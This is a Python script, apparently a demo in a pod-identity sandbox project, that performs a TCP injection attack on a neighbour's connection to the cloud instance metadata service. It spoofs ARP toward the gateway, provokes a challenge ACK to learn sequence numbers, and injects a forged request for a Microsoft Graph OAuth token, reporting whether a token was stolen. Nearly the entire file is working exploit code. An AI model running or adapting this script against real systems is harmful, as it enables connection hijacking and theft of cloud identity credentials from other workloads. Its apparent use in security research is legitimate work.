"""Takes over a neighbour's open connection: one segment with a request, no port or number guessed.

    inject.py ADDRESS PORT SECONDS

A SYN with its four-tuple makes the node answer with a challenge ACK (RFC 5961), which tells both
sequence numbers. Takes the neighbour's address by ARP. Prints the first line that came back, and
whether a token did.
"""

from __future__ import annotations

import json
import sys
import time

from podidentity_sandbox.demo.forger import IMDS, gateway, own
from podidentity_sandbox.demo.frames import ACK, PSH, SYN, Wire

PATH = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://graph.microsoft.com"
REQUEST = f"GET {PATH} HTTP/1.1\r\nHost: {IMDS[0]}\r\nMetadata: true\r\n\r\n".encode()


def inject(victim: str, port: int, seconds: float) -> tuple[bool, str]:
    """Return whether the node told its numbers, and the answer that came to us."""
    mac, mine = own()
    wire, via = Wire(mac, victim), Wire(mac, mine).resolve(gateway(), time.monotonic() + 60)
    told, end = False, time.monotonic() + seconds
    while time.monotonic() < end:
        wire.request_arp(gateway())
        wire.send_tcp(via, IMDS, port, (1, 0), SYN)
        for segment in wire.segments(IMDS[0], 0.6, port=port):
            if segment.to != victim:
                continue
            if segment.data:
                return True, segment.data.decode(errors="replace")
            if segment.flags == ACK:
                told = True
                numbers = segment.acknowledged, segment.sequence
                wire.send_tcp(via, IMDS, port, numbers, ACK | PSH, data=REQUEST)
    return told, ""


if __name__ == "__main__":
    claim, of, span = sys.argv[1:]
    found, answer = inject(claim, int(of), float(span))
    head = answer.partition("\r\n")[0]
    print(json.dumps({"told": found, "answer": head, "stolen": "access_token" in answer}))
